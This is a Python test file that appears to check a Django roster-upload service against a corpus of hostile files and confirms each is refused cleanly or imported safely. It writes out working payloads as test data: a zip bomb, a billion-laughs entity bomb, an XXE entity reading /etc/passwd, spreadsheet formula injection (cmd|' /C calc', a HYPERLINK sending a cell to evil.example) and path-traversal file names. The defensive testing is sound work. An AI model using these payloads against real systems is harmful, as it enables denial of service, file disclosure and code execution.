"""A corpus of broken and hostile uploads, generated here, sent through the real upload endpoints.

Every file must be answered with a clear message (in Chinese by default, in English when asked), never a
server error; nothing is written unless the file is a readable roster (then only its valid rows, with every
broken row reported by row number and column); the memory the request needs is bounded, whatever the file
claims to hold; the stored file never lands outside the media directory, whatever its name.
"""

import codecs
import io
import os
import tracemalloc
import zipfile
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile

from core.roles import Role
from enterprises.models import Enterprise, ImportBatch
from funding.models import Commitment, Disbursement

from ..enterprises.rosters import HEADERS, csv_bytes, row, xlsx_bytes

ROSTER_URL = "/api/v1/enterprises/import/"
BACKFILL_URL = "/api/v1/backfill/"
MB = 1024 * 1024


# --- Building the files ------------------------------------------------------------------------------


def _zip(members, *, compression=zipfile.ZIP_DEFLATED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _valid_xlsx_members():
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes([row(1)]))) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _xlsx_with_sheet(sheet_xml):
    members = _valid_xlsx_members()
    members["xl/worksheets/sheet1.xml"] = sheet_xml
    return _zip(members)


def zip_bomb():
    """64 MB of zeros in a sheet, compressed to about 64 KB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in _valid_xlsx_members().items():
            if name != "xl/worksheets/sheet1.xml":
                archive.writestr(name, data)
        with archive.open("xl/worksheets/sheet1.xml", "w") as member:
            for _i in range(64):
                member.write(b"\x00" * MB)
    return buffer.getvalue()


def nested_zip_bomb():
    """A workbook whose sheet is itself a zip of a zip: small, and nothing in it is a sheet."""
    inner = _zip({"a.bin": b"\x00" * (8 * MB)})
    return _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>", "xl/inner.zip": inner * 4})


def many_entries_zip():
    return _zip({f"xl/worksheets/sheet{i}.xml": b"<worksheet/>" for i in range(6000)}, compression=zipfile.ZIP_STORED)


SHEET_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def million_row_claim():
    """A sheet whose dimension claims A1:M1048576 and whose only data row sits on row 1,048,576."""
    cells = "".join(f'<c r="{chr(65 + i)}1" t="inlineStr"><is><t>{h}</t></is></c>' for i, h in enumerate(HEADERS))
    xml = (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet {SHEET_NS}><dimension ref="A1:M1048576"/>'
        f'<sheetData><row r="1">{cells}</row>'
        '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData></worksheet>'
    )
    return _xlsx_with_sheet(xml.encode())


def billion_laughs():
    """An XML entity expansion bomb in the sheet."""
    entities = '<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)
    )
    xml = (
        f'<?xml version="1.0"?><!DOCTYPE worksheet [{entities}]>'
        f'<worksheet {SHEET_NS}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&j;</t></is></c></row>'
        "</sheetData></worksheet>"
    )
    return _xlsx_with_sheet(xml.encode())


def external_entity():
    """XXE: an entity that points at a file on the server."""
    xml = (
        '<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        f'<worksheet {SHEET_NS}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&x;</t></is></c></row>'
        "</sheetData></worksheet>"
    )
    return _xlsx_with_sheet(xml.encode())


def wide_sheet():
    """A header row 16,384 columns wide."""
    workbook = openpyxl.Workbook()
    workbook.active.append(["列"] * 16_384)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def formula_workbook():
    return xlsx_bytes(
        [
            row(1, name='=HYPERLINK("http://evil.example/?"&A1,"点此")'),
            row(2, name="+cmd|' /C calc'!A0"),
            row(3, name="@SUM(1+1)*cmd|' /C calc'!A0"),
            row(4, main_products="-2+3+cmd|' /C calc'!A0"),
        ]
    )


def hidden_first_sheet():
    workbook = openpyxl.Workbook()
    workbook.active.title = "说明"
    workbook.active.sheet_state = "hidden"
    workbook.active.append(["这一页不是名单"])
    sheet = workbook.create_sheet("名单")
    sheet.append(HEADERS)
    sheet.append(row(1))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def no_worksheet():
    members = {k: v for k, v in _valid_xlsx_members().items() if not k.startswith("xl/worksheets/")}
    return _zip(members)


def encrypted_office_file():
    """Office encrypts an xlsx inside an OLE2 container (as .xls files are)."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 3000


def mixed_encodings():
    head = csv_bytes([row(1)])
    return head + "上海混合编码有限公司,".encode("gbk") + "岳阳街道\r\n".encode()


def exotic(encoding):
    text = csv_bytes([row(1)]).decode("utf-8")
    return text.encode(encoding, errors="replace")


@dataclass
class Case:
    name: str
    file_name: str
    build: object
    #: "refused": a 4xx with a message and nothing written; "rows": a 200 import result (valid rows written,
    #: every broken row reported with its row number and column).
    outcome: str = "refused"
    url: str = ROSTER_URL


CASES = [
    Case("empty xlsx", "roster.xlsx", lambda: b""),
    Case("empty csv", "roster.csv", lambda: b""),
    Case("zip bomb", "roster.xlsx", zip_bomb),
    Case("nested zip bomb", "roster.xlsx", nested_zip_bomb),
    Case("6,000 zip entries", "roster.xlsx", many_entries_zip),
    Case("a sheet claiming a million rows", "roster.xlsx", million_row_claim),
    Case("billion laughs", "roster.xlsx", billion_laughs),
    Case("external entity (XXE)", "roster.xlsx", external_entity),
    Case("16,384 columns", "roster.xlsx", wide_sheet),
    Case("formula injection", "roster.xlsx", formula_workbook, outcome="rows"),
    Case("a 100 MB file", "roster.csv", lambda: csv_bytes([row(1)]) + b"," * (100 * MB)),
    Case("binary renamed to .csv", "roster.csv", lambda: bytes(range(256)) * 4096),
    Case("a PNG renamed to .xlsx", "roster.xlsx", lambda: b"\x89PNG\r\n\x1a\n" + os.urandom(4096)),
    Case("a PDF renamed to .csv", "roster.csv", lambda: b"%PDF-1.7\n" + os.urandom(4096)),
    Case("an executable renamed to .xlsx", "roster.xlsx", lambda: b"\x7fELF\x02\x01\x01" + os.urandom(4096)),
    Case("an old .xls", "roster.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 4000),
    Case("an encrypted workbook", "roster.xlsx", encrypted_office_file),
    Case("a web page saved as .xls", "roster.xls", lambda: b"<html><table><tr><td>1</td></tr></table></html>"),
    Case("an OpenDocument sheet", "roster.ods", lambda: _zip({"mimetype": b"application/vnd.oasis.opendocument"})),
    Case("a Word document renamed", "roster.xlsx", lambda: _zip({"word/document.xml": b"<w:document/>"})),
    Case("a truncated workbook", "roster.xlsx", lambda: xlsx_bytes([row(1)])[:900]),
    Case("a workbook with no sheet", "roster.xlsx", no_worksheet),
    Case("a csv named .xlsx", "roster.xlsx", lambda: csv_bytes([row(1)])),
    Case(
        "title row above the headers",
        "roster.xlsx",
        lambda: xlsx_bytes([row(1)], above=[["松江区试点企业名单"]]),
        "rows",
    ),
    Case("a hidden sheet first", "roster.xlsx", hidden_first_sheet, outcome="any"),
    Case("wrong headers", "roster.xlsx", lambda: xlsx_bytes([row(1)], headers=[f"列{i}" for i in range(13)])),
    Case("headers only", "roster.csv", lambda: csv_bytes([])),
    Case("a duplicated header", "roster.csv", lambda: csv_bytes([row(1) + ["x"]], headers=HEADERS + [HEADERS[0]])),
    Case("an absurd cell (40,000 characters)", "roster.csv", lambda: csv_bytes([row(1, main_products="产" * 40_000)])),
    Case("a cell of 2 MB", "roster.xlsx", lambda: xlsx_bytes([row(1, main_products="x" * 32_000)]) + b"", "any"),
    Case("a line of 5 MB without a line break", "roster.csv", lambda: b"a" * (5 * MB)),
    Case("NUL bytes in a csv", "roster.csv", lambda: csv_bytes([row(1)]).replace(b",", b"\x00,")),
    Case("an unclosed quote", "roster.csv", lambda: csv_bytes([row(1)]) + b'"' + b"x" * 1000, "rows"),
    Case("UTF-16 with BOM", "roster.csv", lambda: codecs.BOM_UTF16_LE + exotic("utf-16-le"), "rows"),
    Case("UTF-16 big-endian without BOM", "roster.csv", lambda: exotic("utf-16-be"), outcome="any"),
    Case("UTF-32", "roster.csv", lambda: exotic("utf-32"), outcome="any"),
    Case("GB18030", "roster.csv", lambda: exotic("gb18030"), "rows"),
    Case("Big5 (traditional characters)", "roster.csv", lambda: exotic("big5"), outcome="any"),
    Case("Shift-JIS", "roster.csv", lambda: exotic("shift_jis"), outcome="any"),
    Case("UTF-8 and GBK mixed in one file", "roster.csv", mixed_encodings, outcome="any"),
    Case("EBCDIC", "roster.csv", lambda: exotic("cp500")),
    Case("path traversal in the name", "../../../../etc/cron.d/roster.csv", lambda: csv_bytes([row(1)]), "rows"),
    Case("a Windows path in the name", "..\\..\\windows\\roster.csv", lambda: csv_bytes([row(1)]), "rows"),
    Case("an absolute path in the name", "/etc/passwd.csv", lambda: csv_bytes([row(1)]), "rows"),
    Case("a 300-character name", "名" * 300 + ".csv", lambda: csv_bytes([row(1)]), "rows"),
    Case("control characters in the name", "ro\x00ster\r\n.csv", lambda: csv_bytes([row(1)]), outcome="any"),
    Case("no extension", "roster", lambda: csv_bytes([row(1)]), outcome="any"),
    Case("back-fill: binary", "history.xlsx", lambda: os.urandom(8192), url=BACKFILL_URL),
    Case("back-fill: zip bomb", "history.xlsx", zip_bomb, url=BACKFILL_URL),
    Case("back-fill: a roster instead", "history.xlsx", lambda: xlsx_bytes([row(1)]), url=BACKFILL_URL),
    Case("back-fill: empty", "history.xlsx", lambda: b"", url=BACKFILL_URL),
    Case(
        "back-fill: an old .xls",
        "history.xls",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 4000,
        url=BACKFILL_URL,
    ),
]


def test_the_corpus_is_large_enough():
    assert len(CASES) >= 40
    assert len({case.name for case in CASES}) == len(CASES)


def _state():
    return (Enterprise.objects.count(), Commitment.objects.count(), Disbursement.objects.count())


def _post(client, case, content, language):
    upload = SimpleUploadedFile(case.file_name, content, content_type="application/octet-stream")
    data = {"file": upload, "commit": "true"}
    return client.post(case.url, data, format="multipart", HTTP_ACCEPT_LANGUAGE=language)


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_every_hostile_upload_gets_a_clear_answer_and_writes_nothing_it_should_not(api, users, case):
    uploader = users[Role.DISTRICT_OFFICIAL] if case.url == BACKFILL_URL else users[Role.UNIT_STAFF]
    client = api.as_user(uploader)
    content = case.build()
    before = _state()

    tracemalloc.start()
    try:
        response = _post(client, case, content, "en")
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert response.status_code < 500, (case.name, response.status_code)
    # Bounded: what the request needs beyond the upload itself (held by the test client, and a copy by
    # Django's parser) does not grow with what the file claims to hold once unpacked.
    assert peak - 3 * len(content) < 96 * MB, (case.name, peak // MB)
    body = response.json()
    if case.outcome == "refused" or (case.outcome == "any" and response.status_code >= 400):
        assert 400 <= response.status_code < 500, (case.name, response.status_code, body)
        assert body.get("message"), (case.name, body)
        assert _state() == before, case.name
        # The same refusal in Chinese, the portal's default language.
        chinese = _post(api.as_user(uploader), case, content, "zh-hans").json()["message"]
        assert any("\u4e00" <= ch <= "\u9fff" for ch in chinese), (case.name, chinese)
    else:
        assert response.status_code == 200, (case.name, response.status_code, body)
        totals = body["totals"]
        written = Enterprise.objects.count() - before[0]
        assert written == totals["create"], case.name
        for result_row in body["rows"]:
            if result_row["action"] == "error":
                assert result_row["row"] >= 2 and result_row["errors"], (case.name, result_row)
                assert all(e["column"] and e["message"] for e in result_row["errors"]), (case.name, result_row)
    media = Path(settings.MEDIA_ROOT).resolve()
    for batch in ImportBatch.objects.all():
        if batch.file:
            assert Path(batch.file.path).resolve().is_relative_to(media), (case.name, batch.file.name)
            assert "\x00" not in batch.file_name and "/" not in batch.file_name, (case.name, batch.file_name)


def test_formula_cells_are_stored_as_typed_and_exported_inert(api, users, client):
    staff = users[Role.UNIT_STAFF]
    response = _post(api.as_user(staff), Case("formulas", "roster.xlsx", None), formula_workbook(), "en")
    assert response.status_code == 200
    body = response.json()
    # A formula cell has no typed value (openpyxl reads what Excel would compute, never runs it): the
    # row is reported as missing its name; text that merely starts like a formula is kept as typed.
    assert body["totals"] == {"create": 3, "update": 0, "unchanged": 0, "error": 1}
    assert body["rows"][0]["row"] == 2 and body["rows"][0]["errors"][0]["column"] == "企业名称"
    assert Enterprise.objects.filter(name="+cmd|' /C calc'!A0").exists()
    client.force_login(staff)
    exported = client.get("/enterprises/export/?format=xlsx")
    assert exported.status_code == 200, exported.status_code
    content = b"".join(exported.streaming_content) if exported.streaming else exported.content
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    cells = [v for values in workbook.worksheets[0].iter_rows(values_only=True) for v in values if isinstance(v, str)]
    assert sum("cmd|" in v for v in cells) == 3  # exported, as text
    for value in cells:
        assert value[:1] not in "=+-@", f"a cell a spreadsheet would run as a formula was exported: {value!r}"
